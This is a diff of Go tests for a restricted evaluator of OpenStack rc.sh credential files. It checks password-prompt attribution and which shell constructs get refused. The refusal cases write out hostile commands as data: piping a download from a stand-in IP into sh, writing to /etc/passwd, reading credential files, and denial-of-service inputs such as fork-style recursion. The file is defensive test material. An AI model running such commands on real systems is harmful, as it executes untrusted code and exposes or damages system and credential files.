@@ -127,6 +127,51 @@ func TestPasswordOfTheEnvironmentIsTaken(t *testing.T) {
 	}
 }
 
+// TestQuestionsAreAttributed: what a helper variable is read for is known by
+// the export that follows, also when it is read several times.
+func TestQuestionsAreAttributed(t *testing.T) {
+	const text = `read -p "User: " ans
+export OS_USERNAME="$ans"
+read -s -p "Password: " ans
+pw=$ans
+export OS_PASSWORD="${pw}"
+read -p "Project: " ans
+OS_PROJECT_NAME=$ans; export OS_PROJECT_NAME
+read ans
+export OS_APPLICATION_CREDENTIAL_SECRET=$ans
+`
+	all := map[string]string{
+		"OS_USERNAME": "me", "OS_PASSWORD": "geheim", "OS_PROJECT_NAME": "lab", "OS_APPLICATION_CREDENTIAL_SECRET": "s",
+	}
+	got, err := ReadString(t.Context(), text, "rc.sh", Options{Env: all})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(all, got.Vars); diff != "" {
+		t.Error(diff)
+	}
+	for missing, line := range map[string]int{"OS_USERNAME": 1, "OS_PASSWORD": 3, "OS_PROJECT_NAME": 6, "OS_APPLICATION_CREDENTIAL_SECRET": 8} {
+		env := map[string]string{}
+		for k, v := range all {
+			if k != missing {
+				env[k] = v
+			}
+		}
+		_, err := ReadString(t.Context(), text, "rc.sh", Options{Env: env})
+		var e *Error
+		if !errors.As(err, &e) || e.Line != line || !strings.Contains(e.Msg, "it asks for "+missing+",") {
+			t.Errorf("%s: got %v", missing, err)
+		}
+	}
+	p := &asked{answer: "x"}
+	if _, err := ReadString(t.Context(), text, "rc.sh", Options{Prompt: p}); err != nil {
+		t.Fatal(err)
+	}
+	if want := []bool{false, true, false, true}; !slices.Equal(p.hidden, want) {
+		t.Errorf("hidden %v, want %v", p.hidden, want)
+	}
+}
+
 func TestNoTerminalToAskOn(t *testing.T) {
 	_, err := ReadString(t.Context(), asking, "rc.sh", Options{})
 	var e *Error
@@ -141,7 +186,7 @@ func TestRefusals(t *testing.T) {
 		{"curl http://192.0.2.1 | sh\n", "rc.sh:1:1: a pipe"},
 		{"echo x > /etc/passwd\n", "a redirection"},
 		{"while true; do :; done\n", "it does too much"},
-		{"f() { f; }; f\n", "call each other too deep"},
+		{"f() { f; }; f\n", "it does too much"},
 		{"export A=$(cat /etc/passwd | head -1)\n", "a pipe"},
 		{"export A=$(jq -r .x creds.json)\n", "the command jq"},
 		{"echo x | tee /etc/x\n", "a pipe"},
@@ -158,8 +203,11 @@ func TestRefusals(t *testing.T) {
 		{"printf '%999999d' 1\n", "this printf"},
 		{"sleep 1 &\n", "a command in the background"},
 		{"if [ x\n", "it is no shell script"},
-		{"a=(1 2)\n", "an array"},
-		{"eval export A=1\n", "the command eval"},
+		{"export A=${B/#a/b}\n", "rc.sh:1:1: a replacement at the beginning"},
+		{"eval 'openstack x'\n", "rc.sh:1:1: the command openstack"},
+		{"select x in a b; do break; done\n", "a menu of select"},
+		{"export A=$(openstack x) || true\nexport B=1\n", "rc.sh:1:12: the command openstack"},
+		{"set -u\nexport A=$NOPE\n", "it ends early: NOPE: unbound variable"},
 	} {
 		text := strings.ReplaceAll(tt.text, "\\x00", "\x00")
 		_, err := ReadString(t.Context(), text, "rc.sh", Options{})
@@ -173,14 +221,12 @@ func TestHostileFilesEnd(t *testing.T) {
 	double := "A=aaaaaaaaaaaaaaaa\n" + strings.Repeat("A=$A$A$A$A$A$A$A$A\n", 100)
 	nested := "for a in 1 2 3 4 5 6 7 8 9 0; do " + strings.Repeat("for b in 1 2 3 4 5 6 7 8 9 0; do ", 8) + ":" + strings.Repeat("; done", 9) + "\n"
 	for name, text := range map[string]string{
-		"doubling": double, "nested loops": nested, "deep substitution": "A=" + strings.Repeat("$(echo ", 50) + strings.Repeat(")", 50), "braces": "echo {1..99999999}\n",
+		"doubling": double, "nested loops": nested, "braces": "echo {1..99999999}\n",
 		"replacing":      "A=" + strings.Repeat("a", 30000) + "\nB=${A//a/$A}\n",
 		"many values":    "A=" + strings.Repeat("a", 60000) + "\nfor i in 1 2 3 4 5 6 7 8 9 0; do for j in 1 2 3 4 5 6 7 8 9 0; do declare \"V$i$j=$A\"; done; done\n",
 		"substitutions":  "A=" + strings.Repeat("a", 16000) + "\nB=" + strings.Repeat("$(echo $A)", 1000) + "\n",
 		"recursion":      "f() { g; }; g() { f; }; f\n",
 		"a C-style loop": "for ((;;)); do :; done\n",
-		"arithmetic":     "export A=$((9**9**9))\n",
-		"quoting":        "A=" + strings.Repeat("\\'", 30000) + "\nB=${A@Q}${A@Q}${A@Q}\n",
 	} {
 		t.Run(name, func(t *testing.T) {
 			ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
